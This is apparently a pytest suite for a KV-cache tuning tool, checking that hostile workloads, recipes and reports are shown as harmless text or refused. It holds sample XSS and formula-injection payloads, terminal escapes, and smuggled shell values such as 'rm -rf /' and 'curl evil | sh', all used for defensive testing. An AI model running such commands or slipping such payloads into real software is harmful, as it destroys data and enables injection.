"""Hostile prompts, names, recipes and files: safe, one clear line, from the terminal to the page."""

from __future__ import annotations

import html
import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
from proven import BASELINE, chats, proven_recipe
from report_sample import sample_result

from kvtune.cli.main import main
from kvtune.recipe import Recipe, configuration_of
from kvtune.report import render, render_markdown
from kvtune.testing.reference import reference_model_path

SCRIPT = "</pre></script><script>alert(1)</script><img src=x onerror=alert(2)>"
FORMULA = "=cmd|' /C calc'!A0"
TERMINAL = "\x1b[2J\x1b]0;owned\x07red\x9b31m"
BIDI = "invoice\u202efdp.exe\u2066\u200b\ufeff"
SURROGATE = "half \ud83d of it"
NASTY = (
    SCRIPT, FORMULA, TERMINAL, BIDI, SURROGATE, "a" * 1_000_000, "\0nul\x7f",
    "{{7*7}}{% for x in y %}", "\u2028\u2029\r\b",
)  # fmt: skip
ESCAPES = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ud800-\udfff\ufeff]"
)


def hostile_workload(path: Path, count: int = 48) -> Path:
    """Requests whose text, names, sessions and tags are all hostile in turn."""
    rows: list[dict[str, Any]] = []
    for i in range(count):
        text, name = NASTY[i % len(NASTY)], NASTY[(i + 1) % 5]
        rows.append({
            "id": f"{name}{i}", "session_id": f"{name}{i % 12}",
            "tags": {"task": name, "language": text[:60]},
            "messages": [{"role": "system", "content": "Be brief."},
                         {"role": "user", "content": f"{text} {i}?"}],
            "max_tokens": 4,
        })  # fmt: skip
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


def shown(capsys: pytest.CaptureFixture[str], *words: str) -> tuple[int, str]:
    """Exit code and everything a terminal would get of a command, which must be harmless and quick."""
    start_s = time.monotonic()
    code = main(list(words))
    captured = capsys.readouterr()
    assert not ESCAPES.findall(captured.out + captured.err), words
    assert "Traceback" not in captured.err and time.monotonic() - start_s < 60
    return code, captured.out + captured.err


@pytest.fixture(scope="module")
def recipe(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    return proven_recipe(folder / "recipe.json", reference_model_path(), chats(folder / "chats.jsonl", 40))


# -- terminal --


@pytest.mark.parametrize("lint", [(), ("--lint",)])
def test_trace_shows_a_hostile_workload_without_obeying_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], lint: tuple[str, ...]
) -> None:
    file = hostile_workload(tmp_path / "w.jsonl")
    code, text = shown(capsys, "trace", str(file), *lint)
    assert code in (0, 2) and len(text) < 20_000


def test_a_hostile_workload_is_compared_and_called_drifted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path
) -> None:
    file = hostile_workload(tmp_path / f"w\x1b[31m{BIDI}.jsonl")
    code, text = shown(capsys, "verify", str(recipe), "--workload", str(file))
    assert code == 1 and text.startswith("verdict     FAIL") and "\\x1b[31m" in text and len(text) < 20_000


def test_check_judges_what_can_be_served_and_names_the_rest(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path
) -> None:
    file = hostile_workload(tmp_path / "w.jsonl", 18)
    words = ("check", "--recipe", str(recipe), "--workload", str(file), "--num-requests", "8")
    code, text = shown(capsys, *words)
    assert code in (0, 1) and "2 too long" in text and "verdict     " in text and len(text) < 20_000


def test_an_error_that_quotes_a_megabyte_is_one_short_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, text = shown(capsys, "plan", TERMINAL + "x" * 1_000_000)
    assert code == 2 and len(text.splitlines()) == 1 and len(text) < 2500


# -- page --


def hostile_result() -> dict[str, Any]:
    """A record of `tune` in which every text is hostile."""

    def poisoned(value: Any, name: str = "") -> Any:
        if isinstance(value, dict):
            return {key: poisoned(inner, key) for key, inner in value.items()}
        if isinstance(value, list):
            return [poisoned(inner, name) for inner in value]
        if isinstance(value, str) and name not in ("verdict", "status", "speed_verdict"):
            return value + SCRIPT + TERMINAL + BIDI + SURROGATE + FORMULA
        return value

    return dict(poisoned(sample_result()))


def test_the_page_holds_hostile_text_as_text() -> None:
    page = render(hostile_result())
    assert "<script" not in page and "<img" not in page and "onerror=alert(2)&gt;" in page
    assert html.escape(SCRIPT)[:20] in page and "\\u202e" in page and "\\x1b" in page
    assert not ESCAPES.findall(page) and page.encode()
    assert "default-src 'none'" in page and len(page.encode()) <= 2_000_000


def test_markdown_holds_hostile_text_as_text() -> None:
    text = render_markdown(hostile_result())
    outside = re.sub(r"^(`{3,})[^`]*?\n.*?^\1$", "", text, flags=re.MULTILINE | re.DOTALL)
    assert "```" not in outside and len(outside) > 1000
    assert not re.search(r"(?<!\\)<(script|img)", outside) and not ESCAPES.findall(text)


def test_a_megabyte_in_one_word_does_not_make_a_page_too_large_to_open() -> None:
    result = sample_result()
    result["notes"] = ["a" * 1_000_000]
    result["workload"] = {"path": "b" * 1_000_000}
    assert len(render(result).encode()) < 6_000_000


# -- recipes --


def refused(capsys: pytest.CaptureFixture[str], path: Path, *verbs: str) -> None:
    """Every verb that reads a recipe refuses this one in one line, with exit code 2."""
    workload = str(path.parent / "w.jsonl")
    Path(workload).write_text('{"messages": [{"role": "user", "content": "hello"}]}\n')
    commands = {
        "verify": ("verify", str(path), "--workload", workload),
        "check": ("check", "--recipe", str(path), "--workload", workload),
        "emit": ("emit", str(path), "--target", "vllm"),
    }
    for verb in verbs or commands:
        code, text = shown(capsys, *commands[verb])
        assert code == 2, (verb, text)
        assert len(text.splitlines()) == 1 and text.startswith("kvtune: error: ") and len(text) < 1200


def edited(recipe: Path, path: Path, **changes: Any) -> Path:
    """The recipe with other members, its hash made to agree."""
    body = {k: v for k, v in Recipe.load(recipe).to_dict().items() if k != "content_sha256"}
    body["voided_by"] = tuple(body["voided_by"])
    return Recipe(**{**body, **changes}).save(path)


def test_an_edited_recipe_is_refused_by_every_verb(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path
) -> None:
    path = tmp_path / "recipe.json"
    path.write_text(recipe.read_text().replace('"k_codec": "int8"', '"k_codec": "int4"'))
    assert path.read_text() != recipe.read_text()
    refused(capsys, path)


@pytest.mark.parametrize("cut", [0, 1, 100, 5000, -2])
def test_a_cut_off_recipe_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path, cut: int
) -> None:
    path = tmp_path / "recipe.json"
    path.write_bytes(recipe.read_bytes()[:cut])
    refused(capsys, path)


def test_contradictory_settings_are_refused_although_the_hash_agrees(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path
) -> None:
    configuration = configuration_of({**BASELINE, "k_codec": "int8"}, kv_budget_bytes=1 << 24)
    configuration["cache"]["k_codec"] = "int4"
    refused(capsys, edited(recipe, tmp_path / "recipe.json", configuration=configuration))


def test_a_layer_the_model_does_not_have_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path
) -> None:
    knobs = {**BASELINE, "k_codec": "int8", "v_codec": "int8", "layer_codecs": {"99": ["bf16", "bf16"]}}
    configuration = configuration_of(knobs, kv_budget_bytes=1 << 24)
    refused(capsys, edited(recipe, tmp_path / "recipe.json", configuration=configuration), "verify")


@pytest.mark.parametrize(
    "engine",
    [
        {"launcher": ["rm", "-rf", "/"]}, {"launcher": ["curl x | sh", "serve", "m"]},
        {"launcher": "vllm serve"},
        {"launcher": ["vllm", "serve", "--trust-remote-code"]}, {"flags": ["--trust-remote-code"]},
        {"flags": ["--trust_remote_code=1"]}, {"flags": ["--dtype", "auto\nrm -rf ~"]}, {"flags": [3]},
        {"flags": ["--host", "0.0.0.0"]},
    ],
)  # fmt: skip
def test_a_recipe_cannot_make_emit_print_another_command(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path, engine: dict[str, Any]
) -> None:
    knobs = {"kv_dtype": "auto", "block_size": 16}
    path = edited(
        recipe, tmp_path / "recipe.json", engine={"name": "vllm", "version": "0.32", **engine},
        configuration=configuration_of(knobs, kv_budget_bytes=1 << 24),
    )  # fmt: skip
    refused(capsys, path, "emit")


def test_comments_of_an_emitted_command_cannot_grow_a_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path
) -> None:
    knobs = {"kv_dtype": "auto", "block_size": 16}
    path = edited(
        recipe, tmp_path / "recipe.json", engine={"name": "vllm", "version": "0.32\nrm -rf ~"},
        created_at="today\ncurl evil | sh", configuration=configuration_of(knobs, kv_budget_bytes=1 << 24),
    )  # fmt: skip
    code, text = shown(capsys, "emit", str(path), "--target", "vllm")
    lines = [line for line in text.splitlines() if "rm -rf" in line or "curl" in line]
    assert code == 0 and lines and all(line.startswith("#") for line in lines)


@pytest.mark.parametrize(
    "changes",
    [
        {"workload": {"profile": {"version": 1}}}, {"workload": {"profile": [1]}},
        {"workload": {"profile": {"version": float(1 << 40)}}},
        {"workload": {"block_size": -3, "profile": {}}},
        {"model": {"path": "\0"}}, {"model": {"path": "x" * 100_000}}, {"model": {}},
        {"engine": {"name": SCRIPT + TERMINAL}},
    ],
)  # fmt: skip
def test_facts_of_a_wrong_shape_are_refused_by_verify(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path, changes: dict[str, Any]
) -> None:
    refused(capsys, edited(recipe, tmp_path / "recipe.json", **changes), "verify")


@pytest.mark.parametrize(
    "engine",
    [
        {"behaviour": 3}, {"behaviour": {"codecs": [], "attention": {"int8": ["x"] * 16}}},
        {"kernel": "native"},
        {"behaviour": {"codecs": {"int8": TERMINAL}, "attention": {"int8": [1e308] * 16}, "rotation": []}},
        {"version": TERMINAL, "torch": 7, "transformers": ["9" * 5000], "python": None},
    ],
)  # fmt: skip
def test_facts_of_a_wrong_kind_never_pass(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], recipe: Path, engine: dict[str, Any]
) -> None:
    proven = Recipe.load(recipe).engine
    path = edited(recipe, tmp_path / "recipe.json", engine={**proven, **engine})
    code, text = shown(capsys, "verify", str(path))
    assert code == 1 and len(text) < 20_000
